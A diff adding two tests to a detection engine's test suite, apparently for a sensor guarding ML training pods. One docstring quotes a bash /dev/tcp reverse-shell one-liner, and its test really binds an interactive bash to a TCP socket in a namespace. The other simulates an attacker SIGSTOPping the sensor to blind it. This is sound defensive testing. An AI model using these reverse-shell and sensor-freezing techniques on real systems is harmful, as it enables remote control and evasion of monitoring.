@@ -9,6 +9,11 @@ of these through (docs/detection.md, "What changed"); the docstrings say how.
 
 from __future__ import annotations
 
+import os
+import signal
+import subprocess
+import sys
+import threading
 import time
 from typing import Any
 
@@ -21,9 +26,9 @@ from trainguard.detection import Decision, Engine, EngineContext
 from trainguard.detection.engine import ManualClock
 
 from . import netns
+from .netns import OBJECT_STORE
 from .samples import CTX, DNS, POD, POD_IP, T0, conn, listen, policy, proc, sample, socket_stream, unconnected
 
-OBJECT_STORE = "203.0.113.40"
 #: The training policy of the example traces, in short: the object store on 443, DNS, the job's pods.
 TRAINING = {
     "network": {"egress": [{"cidr": "203.0.113.0/24", "ports": [{"port": 443}]}], "listenPorts": [29500]},
@@ -405,3 +410,69 @@ def test_a_shell_on_a_unix_socket_or_a_non_shell_on_a_socket_is_not() -> None:
     c = conn(f"{OBJECT_STORE}:443", inode=777001, pid=701)
     server = proc(701, "nginx", argv=["nginx"], stdin=socket_stream(777001))
     assert new(run([sample(t=i, processes=[unix, server], connections=[c]) for i in range(3)])) == set()
+
+
+def test_a_real_bash_on_a_socket_to_the_allowed_object_store_is_a_reverse_shell() -> None:
+    """`bash -i >& /dev/tcp/<object store>/443 0>&1`, as it runs: a real bash whose fds 0 and 1 are a
+    TCP socket, read as the sensor reads them (/proc/<pid>/fd links, the socket's inode)."""
+    real = netns.in_netns(
+        """
+        import os, socket, subprocess, time
+        store = socket.socket(); store.bind(("203.0.113.40", 443)); store.listen()
+        c = socket.socket(); c.bind(("10.244.1.10", 0)); c.connect(("203.0.113.40", 443))
+        peer, _ = store.accept()
+        shell = subprocess.Popen(["bash", "-i"], stdin=c.fileno(), stdout=c.fileno(), stderr=subprocess.DEVNULL)
+        import atexit; atexit.register(shell.kill)  # after the socket tables are read
+        time.sleep(0.2)
+        EXTRA = {"pid": shell.pid, "exe": os.readlink(f"/proc/{shell.pid}/exe"),
+                 "fd0": os.readlink(f"/proc/{shell.pid}/fd/0"),
+                 "fd1": os.readlink(f"/proc/{shell.pid}/fd/1")}
+        """
+    )
+    extra = real.pop("extra")
+    assert extra["fd0"].startswith("socket:[") and extra["fd0"] == extra["fd1"]
+    inode = int(extra["fd0"][len("socket:[") : -1])
+    [c] = real["connections"]
+    assert c["inode"] == inode and c["remote"] == {"address": OBJECT_STORE, "port": 443}
+    stream = {"kind": "socket", "target": extra["fd0"], "inode": inode}
+    shell = proc(extra["pid"], "bash", argv=["bash", "-i"], exe=extra["exe"], stdin=stream, stdout=stream)
+    for s in real["connections"]:
+        s["pid"] = extra["pid"]
+    found = new(run([sample(t=0, processes=[shell], **real)]))
+    assert found == {("process.reverse-shell", f"pid {extra['pid']}")}  # the destination is allowed: nothing else
+
+
+def test_a_really_sigstopped_sensor_is_sensor_gap() -> None:
+    """A real process standing in for the sensor writes a line every 0.1 s; it is stopped (SIGSTOP) for
+    0.7 s of every 0.9 s, as the attack stops the sensor 7 s of every 9. Its lines' arrival times,
+    ten times slower (0.1 s is the sensor's 1 s), are the samples' arrival times."""
+    child = subprocess.Popen(
+        [sys.executable, "-u", "-c", "import time\nwhile True:\n    print(1)\n    time.sleep(0.1)"],
+        stdout=subprocess.PIPE,
+        text=True,
+    )
+    arrivals: list[float] = []
+
+    def read() -> None:
+        assert child.stdout is not None
+        for _ in child.stdout:
+            arrivals.append(time.monotonic())
+
+    reader = threading.Thread(target=read, daemon=True)
+    reader.start()
+    try:
+        started = time.monotonic()
+        for _ in range(4):
+            time.sleep(0.2)  # the attack: the sensor runs 2 "seconds" ...
+            os.kill(child.pid, signal.SIGSTOP)
+            time.sleep(0.7)  # ... and is frozen 7
+            os.kill(child.pid, signal.SIGCONT)
+        time.sleep(0.2)
+    finally:
+        child.kill()
+        child.wait()
+    times = [(a - started) * 10 for a in arrivals]
+    assert len(times) >= 8 and max(b - a for a, b in zip(times, times[1:], strict=False)) >= 6
+    decisions = run([sample(t=t, seq=i) for i, t in enumerate(times)], arrivals=[T0 + t for t in times])
+    found = rules(decisions)
+    assert "sensor.gap" in found and "sensor.silent" not in found
